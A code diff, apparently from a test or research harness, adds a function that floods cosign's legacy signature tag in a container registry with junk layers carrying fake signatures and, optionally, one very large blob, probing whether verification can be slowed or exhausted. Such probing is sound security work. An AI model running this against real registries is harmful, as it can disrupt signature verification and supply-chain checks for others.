@@ -116,3 +116,30 @@ def attach_large(image, length):
     manifest = {"schemaVersion": 2, "mediaType": MANIFEST, "artifactType": BUNDLE, "config": EMPTY, "layers": [layer], "subject": subject,
                 "annotations": {"dev.sigstore.bundle.content": "dsse-envelope", "dev.sigstore.bundle.predicateType": "https://sigstore.dev/cosign/sign/v1"}}
     repository.list_in_fallback([{**repository.push_manifest(manifest), "artifactType": BUNDLE, "annotations": manifest["annotations"]}])
+
+
+def crowd_legacy(image, count, large=0):
+    """Puts junk layers in front of the good one under cosign's old tag; with `large`, one of so many bytes too."""
+    repository = Repository(image)
+    tag = repository.digest.replace(":", "-") + ".sig"
+    reply, raw = repository.call("GET", f"/v2/{repository.name}/manifests/{tag}", accept=MANIFEST)
+    if reply.status != 200:
+        raise RuntimeError(f"no manifest under {tag}")
+    manifest = json.loads(raw)
+    kind = manifest["layers"][0]["mediaType"]
+
+    def layer(number):
+        payload = json.dumps({"critical": {"identity": {"docker-reference": repository.name}, "image": {"docker-manifest-digest": repository.digest},
+                                           "type": "cosign container image signature"}, "optional": {"junk": number}}).encode()
+        return {"mediaType": kind, "digest": repository.push_blob(payload), "size": len(payload),
+                "annotations": {**manifest["layers"][0]["annotations"], "dev.cosignproject.cosign/signature": "MAYCAQECAQE="}}
+
+    with concurrent.futures.ThreadPoolExecutor(4) as pool:
+        layers = list(pool.map(layer, range(count)))
+    if large:
+        part = b" " * (8 << 20)
+        rest = [part] * (large // len(part))
+        layers.insert(0, {"mediaType": kind, "digest": repository.push_blob(lambda: iter(rest)), "size": len(part) * len(rest),
+                          "annotations": {"dev.cosignproject.cosign/signature": "MAYCAQECAQE="}})
+    manifest["layers"] = layers + manifest["layers"]
+    repository.push_manifest(manifest, tag)
